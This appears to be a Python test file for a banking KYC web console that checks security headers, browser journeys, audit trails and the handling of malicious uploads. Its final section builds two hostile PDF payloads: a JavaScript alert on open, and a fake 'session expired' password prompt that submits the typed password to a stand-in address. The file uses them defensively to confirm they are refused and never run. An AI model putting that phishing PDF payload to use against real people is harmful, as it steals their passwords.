"""The web console in a real browser: Debian's Chromium, headless, driven by
playwright-core (tests/console/journey.mjs) against a stack of its own --
FerretDB, smartbankd and nginx serving the built console.  The browser
side asserts what a person sees (and axe-core, the CSP, no console error,
no failed request, phone width); this side asserts what was stored and
audited."""

import base64
import json
import os
import shutil
import subprocess

import requests
from bson import ObjectId

import scans
import sealed
from api import AUDITOR_PASSWORD, admin, unique_email
from stack import SRCDIR

TESTS = os.environ.get("SMARTBANK_CONSOLE_TESTS") or os.path.join(SRCDIR, "tests", "console")
CHROMIUM = os.environ.get("SMARTBANK_CHROMIUM") or "/usr/bin/chromium"


def make_auditor(stack, name):
    email = unique_email("auditor")
    r = admin(stack, "create-auditor", "--email", email, "--name", name, password=AUDITOR_PASSWORD)
    assert r.returncode == 0, r.stderr
    return email


def test_console_headers_and_redirect(stack):
    r = requests.get(stack.url + "/", allow_redirects=False, timeout=10)
    assert r.status_code == 302 and r.headers["Location"] == "/console/"
    r = requests.get(stack.url + "/console/", timeout=10)
    assert r.status_code == 200 and r.headers["Content-Type"].startswith("text/html")
    csp = r.headers["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp and "unsafe" not in csp
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert r.headers["Referrer-Policy"] == "no-referrer"
    assert r.headers["Cache-Control"] == "no-cache"
    assert "<script" not in r.text.replace('<script type="module" crossorigin src="/console/assets/', "")
    asset = r.text.split('src="')[1].split('"')[0]
    a = requests.get(stack.url + asset, timeout=10)
    assert a.status_code == 200 and a.headers["Content-Type"].startswith("text/javascript")
    assert "immutable" in a.headers["Cache-Control"]
    # Over TLS, HSTS too; the API's answers are not the console's.
    s = requests.get(stack.nginx.https_url + "/console/", verify=False, timeout=10)
    assert s.headers["Strict-Transport-Security"].startswith("max-age=")
    assert "Content-Security-Policy" not in requests.get(stack.url + "/healthz", timeout=10).headers
    missing = requests.get(stack.url + "/console/nothing-here.js", timeout=10)
    assert missing.status_code == 404 and missing.json() == {"detail": "Not Found"}


def test_console_journeys_in_chromium(fresh_stack):
    stack = fresh_stack
    node = shutil.which("node")
    assert node, "node is needed (scripts/deps)"
    assert os.path.isdir(os.path.join(TESTS, "node_modules", "playwright-core")), \
        "tests/console has no node_modules: run scripts/deps --test"
    auditors = [make_auditor(stack, "Ann Auditor"), make_auditor(stack, "Bob Auditor")]
    shots = os.environ.get("SMARTBANK_SCREENSHOTS") or os.path.join(stack.workdir, "screenshots")
    env = dict(os.environ, BASE=stack.url, AUDITORS=",".join(auditors),
               AUDITOR_PASSWORD=AUDITOR_PASSWORD, SHOTS=shots, CHROMIUM=CHROMIUM)
    r = subprocess.run([node, os.path.join(TESTS, "journey.mjs")], env=env, cwd=TESTS,
                       capture_output=True, text=True, timeout=170)
    assert r.returncode == 0, r.stdout[-3000:] + r.stderr[-6000:]
    summary = json.loads(r.stdout.strip().splitlines()[-1])

    # What the browser did is what was stored.
    db = stack.db
    user = db["user"].find_one({"email": summary["customer_email"]})
    assert user["name"] == "Asha Verma" and user["kyc_status"] == "APPROVED"
    # "Your data": the phone corrected, marketing given, one export, each
    # audited once.
    assert user["phone"] == "+919800011122" and user["consents"]["marketing"]["given"] is True
    for action in ("PROFILE_UPDATED", "CONSENT_CHANGED", "DATA_EXPORTED"):
        assert db["user_log"].count_documents({"user_id": user["_id"], "action": action}) == 1
    assert summary["exported_entries"] >= 6
    # The customer who erased their account in the browser: erased.
    erased = db["user"].find_one({"_id": ObjectId(summary["erased_id"])})
    assert erased["name"] == "Erased customer" and erased["disabled"] is True
    assert db["user_log"].count_documents({"user_id": erased["_id"],
                                           "action": "CUSTOMER_ERASED"}) == 1
    docs = list(db["kyc_doc"].find({"user_id": user["_id"]}).sort("submitted_at", 1))
    assert [str(d["_id"]) for d in docs] == [summary["first_kyc"], summary["second_kyc"]]
    first, second = docs
    assert first["status"] == "REJECTED" and first["media_type"] == "image/png"
    assert first["review_notes"] == "The photo page is cut off; please scan the whole page."
    assert first["document_type"] == "passport"
    assert second["status"] == "APPROVED" and second["media_type"] == "application/pdf"
    scan, number = sealed.stored(stack, first["_id"])
    assert number == "A1234567"
    assert scan[:8] == b"\x89PNG\r\n\x1a\n" and len(scan) == first["document_size"]
    scan, number = sealed.stored(stack, second["_id"])
    assert number == "ABCPE1234F" and scan.startswith(b"%PDF-1.4")

    # Audited once each: one winner of the race, and no decision of the loser.
    def count(action, kyc):
        return db["user_log"].count_documents({"action": action, "details.kyc_id": str(kyc)})
    assert count("KYC_SUBMITTED", first["_id"]) == 1 and count("KYC_SUBMITTED", second["_id"]) == 1
    assert count("KYC_REJECTED", first["_id"]) == 1 and count("KYC_APPROVED", first["_id"]) == 0
    assert count("KYC_APPROVED", second["_id"]) == 1 and count("KYC_REJECTED", second["_id"]) == 0
    assert summary["rejected_rows"] == 1
    # Each auditor's look at the record and at the scan is in the trail.
    views = list(db["user_log"].find({"action": "KYC_VIEWED", "details.kyc_id": str(second["_id"])}))
    assert {v["details"]["part"] for v in views} == {"record", "document"}
    assert len({v["actor_id"] for v in views}) == 2
    assert ObjectId(summary["second_kyc"]) == second["_id"]
    # The five cases reviewed with the keyboard alone: approved, by the
    # second auditor, each claimed first.
    for kid in summary["keyboard_kycs"]:
        k = db["kyc_doc"].find_one({"_id": ObjectId(kid)})
        assert k["status"] == "APPROVED" and k["claim"]["by"] == k["reviewed_by"]
        assert count("KYC_CLAIMED", kid) == 1 and count("KYC_APPROVED", kid) == 1
    # The two auditors who worked the queue side by side: each case
    # approved once, by the auditor who claimed it, and no case by both.
    team = summary["team"]
    assert len(team) == 2 and not set(team[auditors[0]]) & set(team[auditors[1]])
    assert len(team[auditors[0]]) + len(team[auditors[1]]) == 6
    for email, kids in team.items():
        uid = db["user"].find_one({"email": email})["_id"]
        for kid in kids:
            k = db["kyc_doc"].find_one({"_id": ObjectId(kid)})
            assert k["status"] == "APPROVED" and k["reviewed_by"] == uid == k["claim"]["by"]
            assert count("KYC_CLAIMED", kid) == 1 and count("KYC_APPROVED", kid) == 1
    for name in ("login", "register-errors", "customer-upload", "queue", "review-image",
                 "customer-rejected", "review-held", "audit", "expiry-warning",
                 "queue-filtered", "queue-search", "data", "data-saved", "data-erased"):
        for width in ("360", "1280"):
            assert os.path.getsize(os.path.join(shots, f"{name}-{width}.png")) > 2000


# -- hostile documents: nothing of a document runs in the console -------------

# The probe's two: an alert on opening, and a fake "session expired" prompt
# whose answer is sent elsewhere (to a loopback address that is not ours).
HOSTILE_PDFS = [
    scans.pdf(catalog='/OpenAction << /S /JavaScript /JS (app.alert\\("owned"\\);) >>'),
    scans.pdf(page='/AA << /O << /S /JavaScript /JS (var p = app.response\\("Session expired, '
              're-enter your password"\\); this.submitForm\\("http://127.0.0.2:9/s?p=" + p\\);) '
              '>> >>'),
]


def store_scan(stack, kid, data):
    """Replace the stored bytes of KYC kid by data, sealed with its own data
    key: a document stored before today's checks refused it."""
    import hashlib
    from bson import Binary
    keys = sealed.read_keys(stack.sbd.key_file)
    kyc = stack.db["kyc_doc"].find_one({"_id": kid})
    dek = sealed.data_key(keys, kyc, stack.db)
    stack.db["kyc_document"].update_one({"_id": kid}, {"$set": {
        "data": Binary(sealed.seal_box(dek, kid, "data", data)), "size": len(data)}})
    stack.db["kyc_doc"].update_one({"_id": kid}, {"$set": {
        "document_size": len(data), "document_sha256": hashlib.sha256(data).hexdigest(),
        "media_type": "application/pdf"}})
    assert sealed.stored(stack, kid)[0] == data


def test_a_stored_hostile_pdf_never_runs_in_the_console(fresh_stack):
    from api import customer, document
    stack = fresh_stack
    kycs = []
    for data in HOSTILE_PDFS:
        _, auth = customer(stack)
        # Today the service refuses them...
        r = stack.post("/kyc/upload", headers=auth, json=dict(
            document("passport"), document_data=base64.b64encode(data).decode()))
        assert r.status_code == 422, r.text
        assert r.json()["detail"][0]["msg"].startswith("The PDF contains"), r.text
        # ...one stored before (here: put in place of a good one) never runs.
        r = stack.post("/kyc/upload", json=document("passport"), headers=auth)
        assert r.status_code == 200, r.text
        kid = ObjectId(r.json()["kyc_id"])
        store_scan(stack, kid, data)
        kycs.append(str(kid))
    auditor = make_auditor(stack, "Cara Auditor")
    env = dict(os.environ, BASE=stack.url, AUDITOR=auditor, AUDITOR_PASSWORD=AUDITOR_PASSWORD,
               KYCS=",".join(kycs), CHROMIUM=CHROMIUM)
    r = subprocess.run([shutil.which("node"), os.path.join(TESTS, "hostile.mjs")], env=env,
                       cwd=TESTS, capture_output=True, text=True, timeout=170)
    assert r.returncode == 0, r.stdout[-3000:] + r.stderr[-6000:]
    assert json.loads(r.stdout.strip().splitlines()[-1]) == {"opened": 2}
    # The auditor read both: audited as views, nothing else happened.
    for kid in kycs:
        assert stack.db["user_log"].count_documents({"action": "KYC_VIEWED",
                                                     "details.kyc_id": kid}) == 2
